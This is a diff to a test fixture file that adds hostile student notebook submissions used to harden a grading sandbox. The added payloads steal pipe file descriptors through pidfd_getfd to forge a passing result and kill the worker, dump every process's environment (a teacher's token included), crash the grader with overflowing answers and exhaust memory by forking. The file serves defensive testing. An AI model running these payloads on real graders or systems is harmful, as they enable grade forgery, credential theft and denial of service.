@@ -1,4 +1,5 @@
-"""Hostile submissions for the grader's sandbox test (tests/test_student_kit.py).
+"""Hostile submissions for the grader's sandbox test (tests/test_student_kit.py) and for the
+tests of the grader's own code (tests/test_grade_hardened.py).
 
 Each notebook attacks what a student's code could reach if it ran in the teacher's
 environment: the answer keys, a classmate's files, the teacher's venv, the grader's
@@ -180,6 +181,11 @@ def cases(marker: str, port: int, victim: str = "grace",
         "h7-10gb": (BIG, False),
         "h8-loop": (LOOP.format(marker=marker), False),
         "h9-network": (NETWORK.format(port=port, marker=marker), False),
+        # the grader's own code (issue 39)
+        "h10-huge": (HUGE, True),
+        "h11-pidfd": (PIDFD, False),
+        "h12-environ": (ENVIRON, False),
+        "h13-hog": (HOG, False),
     }
 
 
@@ -204,3 +210,99 @@ def place(nb, code: str, in_answer_cell: bool):
     else:
         nb.cells.insert(answers[0], nbformat.v4.new_code_cell(code))
     return nb
+
+
+# --- the grader's own code (issue 39): each of these broke the grader around the sandbox ---------
+
+#: Takes the worker's output pipe from another process of the sandbox (``pidfd_getfd``: the
+#: kernel ran as the worker's user), writes a forged "executed" notebook on it (status ok, a
+#: text this code never prints), and kills the worker so that only the forgery reaches the
+#: grader. The notebook's own ZeroDivisionError (a cell before) then vanished from its row.
+PIDFD = '''\
+import ctypes, fcntl, json, os, pathlib, signal
+libc = ctypes.CDLL(None, use_errno=True)
+PIDFD_OPEN, PIDFD_GETFD = 434, 438  # x86-64 and arm64 alike
+forged = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
+    {"cell_type": "code", "id": "forged", "metadata": {}, "execution_count": 1, "source": "print()",
+     "outputs": [{"output_type": "stream", "name": "stdout", "text": "FORGED-BY-THE-KERNEL\\n"}]}]}
+payload = (json.dumps({"status": "ok"}) + "\\n" + json.dumps(forged)).encode()
+took, worker = [], None
+for p in pathlib.Path("/proc").iterdir():
+    if not p.name.isdigit() or int(p.name) == os.getpid():
+        continue
+    try:
+        if b"worker.py" in (p / "cmdline").read_bytes():
+            worker = int(p.name)
+    except OSError:
+        pass
+    pidfd = libc.syscall(PIDFD_OPEN, int(p.name), 0)
+    if pidfd < 0:
+        continue
+    for fd in range(64):
+        got = libc.syscall(PIDFD_GETFD, pidfd, fd, 0)
+        if got < 0:
+            continue
+        try:
+            is_pipe = os.readlink(f"/proc/self/fd/{got}").startswith("pipe:")
+            writable = fcntl.fcntl(got, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
+        except OSError:
+            is_pipe = writable = False
+        if is_pipe and writable:
+            took.append((int(p.name), fd, got))
+print("took", [(pid, fd) for pid, fd, _ in took], "errno", ctypes.get_errno())
+# the grader reads what the worker's output pipe carries: write on every pipe taken (the worker's
+# copy, or the sandbox's pid 1's: bwrap's reaper held one too), then stop the worker
+for pid, fd, got in took:
+    os.write(got, payload)
+    os.close(got)
+if took and worker is not None:
+    os.kill(worker, signal.SIGKILL)
+'''
+
+#: Reads the environment of every process it can see: the sandbox's pid 1 (bwrap, started by the
+#: grader) held the teacher's whole environment, a token included, when graded as a normal user.
+ENVIRON = '''\
+import os, pathlib
+seen = {}
+for p in pathlib.Path("/proc").iterdir():
+    if p.name.isdigit() or p.name == "self":
+        try:
+            seen[p.name] = (p / "environ").read_bytes().decode(errors="replace").split("\\0")
+        except OSError as e:
+            seen[p.name] = type(e).__name__
+seen["os.environ"] = sorted(os.environ.items())
+print(seen)
+'''
+
+#: An answer cell that records a number no float holds (a record written by hand: ``my_answer``
+#: refuses it): the grader died in the feedback (OverflowError), after every notebook had run,
+#: with no grades.csv for anyone.
+HUGE = '''\
+from IPython.display import display
+from tmath.exercises import ANSWER_MIME
+for label, value in (("ex-tour-2", 10**400), ("ex-tour-4", -10**400), ("ex-tour-5", 7 * 10**4000)):
+    display({"text/plain": label, ANSWER_MIME: {"label": label, "value": value}}, raw=True)
+'''
+
+#: Four processes that each touch 600 MiB and hold it: 2.4 GiB for one notebook, each process
+#: under its own 4 GiB address-space limit (a 10 GiB notebook took four of them). With a limit
+#: on the sandbox as a whole (``--memory``) they cannot all hold it.
+HOG = '''\
+import os, time
+MiB = 2**20
+children = []
+for _ in range(3):
+    pid = os.fork()
+    if pid == 0:
+        block = bytearray(600 * MiB)
+        for i in range(0, len(block), 4096):
+            block[i] = 1
+        time.sleep(8)
+        os._exit(0)
+    children.append(pid)
+block = bytearray(600 * MiB)
+for i in range(0, len(block), 4096):
+    block[i] = 1
+survived = sum(os.waitpid(pid, 0)[1] == 0 for pid in children)
+print("held", (survived + 1) * 600, "MiB")
+'''
